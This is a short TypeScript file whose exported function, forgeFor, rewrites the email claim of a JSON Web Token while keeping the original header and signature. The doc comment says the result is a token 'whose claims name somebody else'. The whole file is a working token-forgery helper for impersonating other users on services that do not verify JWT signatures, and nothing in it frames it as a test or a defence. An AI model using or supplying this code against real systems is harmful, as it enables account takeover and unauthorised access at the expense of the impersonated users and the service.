/**
 * A JWT whose claims name somebody else. Its header and its signature stay as they are: anybody can write the
 * rest.
 * @param token in the compact form of RFC 7519
 * @throws Error when it is no such token
 */
export function forgeFor(token: string, email: string): string {
  const [header, claims, signature] = token.split(".");
  if (!header || !claims || !signature) throw new Error("This is not a signed token.");
  const changed = { ...JSON.parse(fromBase64url(claims)), email };
  return [header, toBase64url(JSON.stringify(changed)), signature].join(".");
}

function fromBase64url(text: string): string {
  const bytes = atob(text.replaceAll("-", "+").replaceAll("_", "/"));
  return new TextDecoder().decode(Uint8Array.from(bytes, (letter) => letter.charCodeAt(0)));
}

function toBase64url(text: string): string {
  const bytes = String.fromCharCode(...new TextEncoder().encode(text));
  return btoa(bytes).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
}
